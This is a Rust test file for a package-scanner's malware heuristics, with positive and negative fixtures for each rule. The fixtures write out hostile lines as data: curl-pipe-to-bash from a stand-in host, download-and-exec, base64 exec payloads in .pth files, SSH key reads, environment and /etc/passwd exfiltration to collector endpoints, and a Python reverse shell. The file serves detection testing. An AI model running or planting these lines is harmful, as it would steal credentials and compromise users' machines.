//! Every content rule with a positive and a negative fixture; a rule added without both fails
//! `every_rule_has_fixtures`.

use airlock::api::package_request::Ecosystem;
use airlock::package::file::FileKind;
use airlock::scan::heuristics::{self, rules::RULES, typosquat};

/// (rule, path, content that must fire it, similar content that must not).
const CASES: &[(&str, &str, &str, &str)] = &[
    (
        "heuristics.setup-network",
        "pkg-1.0/setup.py",
        "import urllib.request\nurllib.request.urlopen('https://example.com/x').read()\nsetup()",
        "from setuptools import setup\nsetup(name='x', url='https://example.com')",
    ),
    (
        "heuristics.setup-command",
        "pkg-1.0/setup.py",
        "import os\nos.system('make')\nsetup()",
        "import os\nhere = os.path.dirname(__file__)\nsetup()",
    ),
    (
        "heuristics.pth-exec",
        "site/evil.pth",
        "import sys; sys.path.insert(0, '/opt')\n",
        "/opt/extra/lib\n",
    ),
    (
        "heuristics.pth-payload",
        "site/evil.pth",
        "import base64;exec(base64.b64decode('cHJpbnQoMSk='))\n",
        "import sys; sys.path.insert(0, '/opt')\n",
    ),
    (
        "heuristics.download-exec",
        "pkg/__init__.py",
        "from urllib.request import urlopen\nexec(urlopen('https://evil.example/p.py').read())\n",
        "from urllib.request import urlopen\ndata = urlopen('https://example.com/data.json').read()\n",
    ),
    (
        "heuristics.download-exec-script",
        "pkg/ci/install.sh",
        "curl -fsSL https://evil.example/x.sh | bash\n",
        "curl -fsSL https://example.com/x.tar.gz -o x.tar.gz\n",
    ),
    (
        "heuristics.decode-exec",
        "pkg/__init__.py",
        "exec(base64.b64decode(PAYLOAD))\n",
        "data = base64.b64decode(PAYLOAD)\nopen('x.bin','wb').write(data)\n",
    ),
    (
        "heuristics.encoded-blob",
        "pkg/blob.py",
        "",
        "KEY = 'c2VjcmV0'\n",
    ),
    (
        "heuristics.minified-python",
        "pkg/min.py",
        "",
        "def f():\n    return 1\n",
    ),
    (
        "heuristics.credential-paths",
        "pkg/steal.py",
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
        "known = os.path.expanduser('~/.ssh/known_hosts')\n",
    ),
    (
        "heuristics.environment-exfiltration",
        "pkg/x.py",
        "requests.post('https://collector.example', json=dict(os.environ))\n",
        "token = os.environ.get('TOKEN')\nrequests.post('https://api.example', json={'a': 1})\n",
    ),
    (
        "heuristics.exfiltration-endpoint",
        "pkg/x.py",
        "requests.post('https://webhook.site/5f2c', data=open('/etc/passwd').read())\n",
        "requests.post(config['webhook_url'], data=report)\n",
    ),
    (
        "heuristics.messaging-webhook",
        "pkg/x.js",
        "fetch('https://discord.com/api/webhooks/123/abc', {method: 'POST'})\n",
        "fetch('https://discord.com/developers/docs')\n",
    ),
    (
        "heuristics.raw-ip-url",
        "pkg/x.py",
        "URL = 'http://45.61.139.22:8080/payload'\n",
        "URL = 'http://127.0.0.1:8080/health'\nDEV = 'http://192.168.1.10/'\n\"\"\"Pin the host:\n    >>> s.get(\"https://93.184.216.34\", headers={\"Host\": \"example.org\"})\n\"\"\"\n",
    ),
    (
        "heuristics.gyp-command",
        "package/binding.gyp",
        "{'targets': [{'target_name': 'addon', 'sources': ['<!(curl -s https://evil.example/x.sh | sh)', 'addon.cc']}]}\n",
        "{'targets': [{'target_name': 'addon', 'include_dirs': [\"<!@(node -p \\\"require('node-addon-api').include\\\")\", \"<!(node -e \\\"require('nan')\\\")\"], 'sources': ['addon.cc']}]}\n",
    ),
    (
        "heuristics.reverse-shell",
        "pkg/x.py",
        "s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')\n",
        "s=socket.socket();s.connect((h,p));s.sendall(b'ping')\n",
    ),
];

fn fired(path: &str, content: &[u8]) -> Vec<String> {
    let mut out = Vec::new();
    heuristics::scan_text(path, content, &mut out);
    out.into_iter().map(|f| f.rule).collect()
}

fn positive(rule: &str, given: &str) -> Vec<u8> {
    match rule {
        "heuristics.encoded-blob" => format!("PAYLOAD = '{}'\n", "QUJD".repeat(1000)).into_bytes(),
        "heuristics.minified-python" => format!("x=1;{}\n", "y=2;".repeat(3000)).into_bytes(),
        _ => given.as_bytes().to_vec(),
    }
}

#[test]
fn every_rule_fires_on_its_positive_and_not_on_its_negative() {
    assert!(heuristics::validate_rules().is_ok());
    for (rule, path, pos, neg) in CASES {
        let hits = fired(path, &positive(rule, pos));
        assert!(
            hits.iter().any(|h| h == rule),
            "{rule} should fire on its positive, got {hits:?}"
        );
        let misses = fired(path, neg.as_bytes());
        assert!(
            !misses.iter().any(|h| h == rule),
            "{rule} fired on its negative: {misses:?}"
        );
    }
}

#[test]
fn every_rule_has_fixtures() {
    for rule in RULES {
        assert!(
            CASES.iter().any(|c| c.0 == rule.id),
            "rule {} has no fixtures in tests/heuristics.rs",
            rule.id
        );
    }
}

#[test]
fn findings_in_test_code_count_one_step_less() {
    let mut out = Vec::new();
    heuristics::scan_text(
        "pkg/tests/test_net.py",
        b"URL = 'http://45.61.139.22/'\n",
        &mut out,
    );
    assert_eq!(out.len(), 1);
    assert_eq!(
        out[0].severity,
        airlock::api::package_request::Severity::Low
    );
    assert!(
        out[0]
            .evidence
            .as_deref()
            .is_some_and(|e| e.contains("in test code"))
    );
}

#[test]
fn a_pth_file_is_never_discounted_as_test_code() {
    use airlock::api::package_request::Severity;
    let payload = b"import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n";
    let mut plain = Vec::new();
    heuristics::scan_text("hook.pth", payload, &mut plain);
    assert!(!plain.is_empty(), "the payload is found at all");
    // A name that looks like test code, and a test directory: Python still runs the file at
    // every start when an installer puts it at the top of site-packages, so nothing is lowered.
    for path in ["test_hook.pth", "tests/hook.pth", "pkg/testing/hook.pth"] {
        let mut out = Vec::new();
        heuristics::scan_text(path, payload, &mut out);
        let severities: Vec<Severity> = out.iter().map(|f| f.severity).collect();
        let expected: Vec<Severity> = plain.iter().map(|f| f.severity).collect();
        assert_eq!(severities, expected, "{path}");
        assert!(
            out.iter()
                .all(|f| !f.evidence.as_deref().unwrap_or("").contains("test code")),
            "{path}: {out:?}"
        );
    }
    // A module named like a test is test code only when it is a Python module.
    let mut out = Vec::new();
    heuristics::scan_text(
        "pkg/test_net.py",
        b"URL = 'http://45.61.139.22/'\n",
        &mut out,
    );
    assert_eq!(out[0].severity, Severity::Low);
}

#[test]
fn findings_carry_file_line_and_evidence() {
    let mut out = Vec::new();
    heuristics::scan_text(
        "pkg/a.py",
        b"import os\n\nexec(base64.b64decode(X))\n",
        &mut out,
    );
    let f = out
        .iter()
        .find(|f| f.rule == "heuristics.decode-exec")
        .expect("finding");
    assert_eq!(f.line, Some(3));
    assert_eq!(f.file.as_deref(), Some("pkg/a.py"));
    assert!(
        f.evidence
            .as_deref()
            .is_some_and(|e| e.contains("exec(base64.b64decode(X))")),
        "{:?}",
        f.evidence
    );
    // Rules keep to their files: setup.py rules do not read other modules; text rules skip data.
    assert!(fired("pkg/util.py", b"os.system('make')").is_empty());
    assert!(fired("pkg/data.json", b"curl http://x | sh").is_empty());
}

#[test]
fn executables_in_source_packages_are_findings_but_not_in_wheels() {
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";
    let mut out = Vec::new();
    heuristics::scan_head("pkg-1.0/bin/helper", elf, FileKind::Sdist, &mut out);
    heuristics::scan_head("package/prebuilt.node", elf, FileKind::Tarball, &mut out);
    assert_eq!(out.len(), 2);
    assert!(out.iter().all(|f| f.rule == "heuristics.executable"
        && f.severity == airlock::api::package_request::Severity::Medium));
    let mut none = Vec::new();
    heuristics::scan_head("pkg/_core.so", elf, FileKind::Wheel, &mut none);
    heuristics::scan_head(
        "pkg-1.0/README",
        b"MZ is a word",
        FileKind::Sdist,
        &mut none,
    );
    let mut pe = vec![0u8; 0x80];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x40;
    pe[0x40..0x44].copy_from_slice(b"PE\0\0");
    heuristics::scan_head("pkg-1.0/tool.exe", &pe, FileKind::Sdist, &mut out);
    assert!(none.is_empty());
    assert_eq!(out.len(), 3);
}

#[test]
fn typosquats_of_popular_names() {
    assert!(typosquat::check(Ecosystem::Pypi, "reqeusts").is_some());
    assert!(typosquat::check(Ecosystem::Pypi, "requests").is_none());
    assert!(typosquat::check(Ecosystem::Npm, "crossenv").is_some());
    assert!(typosquat::check(Ecosystem::Npm, "cross-env").is_none());
}

/// A PNG of `idat` bytes of pixel data, chunk by chunk (the CRCs are not what is judged).
fn png(idat: usize) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut chunk = |kind: &[u8], data: &[u8]| {
        out.extend((data.len() as u32).to_be_bytes());
        out.extend(kind);
        out.extend(data);
        out.extend([0u8; 4]);
    };
    chunk(b"IHDR", &[0, 0, 0, 64, 0, 0, 0, 64, 8, 6, 0, 0, 0]);
    let pixels: Vec<u8> = (0..idat).map(|i| (i * 31 % 251) as u8).collect();
    chunk(b"IDAT", &pixels);
    chunk(b"IEND", &[]);
    out
}

#[test]
fn honest_data_in_source_is_not_an_encoded_payload() {
    use base64::Engine;
    let b64 = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
    let blob = |f: &[String]| f.iter().any(|r| r == "heuristics.encoded-blob");

    // An icon module: a whole PNG is a picture.
    let icon = format!("ICON = \"{}\"\n", b64(&png(6000)));
    assert!(!blob(&fired("pkg/icons.py", icon.as_bytes())), "a PNG icon");
    // The same picture with bytes after its IEND is how payloads hide in images.
    let mut stuffed = png(6000);
    stuffed.extend(b"import os; os.system('curl http://x | sh')".repeat(20));
    let icon = format!("ICON = \"{}\"\n", b64(&stuffed));
    assert!(
        blob(&fired("pkg/icons.py", icon.as_bytes())),
        "data after the end marker"
    );
    // Not a PNG at all, only starting like one.
    let fake = format!("X = \"iVBORw0KGgo{}\"\n", "QUJD".repeat(1000));
    assert!(blob(&fired("pkg/x.py", fake.as_bytes())));

    // protoc's generated module: one line of serialized descriptor, data handed to protobuf.
    let escapes = "\\x0a\\x0b\\xde\\xad".repeat(1500);
    let pb2 = format!(
        "# Generated by the protocol buffer compiler.  DO NOT EDIT!\nfrom google.protobuf import descriptor_pool as _descriptor_pool\nDESCRIPTOR = _descriptor_pool.Default().AddSerializedFile(b'{escapes}')\n_globals = globals()\n"
    );
    let hits = fired("pkg/api_pb2.py", pb2.as_bytes());
    assert!(
        !hits
            .iter()
            .any(|r| r == "heuristics.encoded-blob" || r == "heuristics.minified-python"),
        "a protobuf descriptor: {hits:?}"
    );
    // The same bytes as anything but the descriptor's one literal are not passed over.
    let smuggled = format!(
        "DESCRIPTOR = _descriptor_pool.Default().AddSerializedFile(b'\\x0a'); exec(b'{escapes}')\n"
    );
    let hits = fired("pkg/api_pb2.py", smuggled.as_bytes());
    assert!(blob(&hits), "{hits:?}");
    assert!(
        hits.iter().any(|r| r == "heuristics.minified-python"),
        "{hits:?}"
    );
}

#[test]
fn prebuilt_native_addons_count_for_less_than_other_binaries() {
    use airlock::api::package_request::Severity;
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";
    let severity = |path: &str, kind: FileKind| {
        let mut out = Vec::new();
        heuristics::scan_head(path, elf, kind, &mut out);
        out.first().map(|f| f.severity)
    };
    for addon in [
        "package/prebuilds/linux-x64/node.napi.node",
        "package/build/Release/binding.node",
    ] {
        assert_eq!(
            severity(addon, FileKind::Tarball),
            Some(Severity::Low),
            "{addon}"
        );
    }
    // Anywhere else, or not an addon, a binary stays a finding a human reviews.
    assert_eq!(
        severity("package/lib/helper.node", FileKind::Tarball),
        Some(Severity::Medium)
    );
    assert_eq!(
        severity("package/prebuilds/linux-x64/run", FileKind::Tarball),
        Some(Severity::Medium)
    );
    assert_eq!(
        severity("pkg-1.0/prebuilds/x.node", FileKind::Sdist),
        Some(Severity::Medium)
    );
}

#[test]
fn a_long_line_of_data_is_not_minified_code() {
    // Modelled on pygments' Unicode tables and generated name sets: one literal on one line.
    let ranges = format!(
        "xid_continue = '0-9A-Z_a-z{}'\n",
        "\\xaa\\xb5\\xb7".repeat(2000)
    );
    let names = format!(
        "NAMES = {{{}}}\n",
        (0..2000)
            .map(|i| format!("'Name{i}'"))
            .collect::<Vec<_>>()
            .join(", ")
    );
    for data in [ranges, names] {
        let hits = fired("pkg/_tables.py", data.as_bytes());
        assert!(
            !hits.iter().any(|r| r == "heuristics.minified-python"),
            "{hits:?}"
        );
    }
    // The same length of code with almost no strings is minified.
    let code = format!("x = {}\n", "(a+b)*c-".repeat(1500));
    assert!(
        fired("pkg/m.py", code.as_bytes())
            .iter()
            .any(|r| r == "heuristics.minified-python")
    );
}
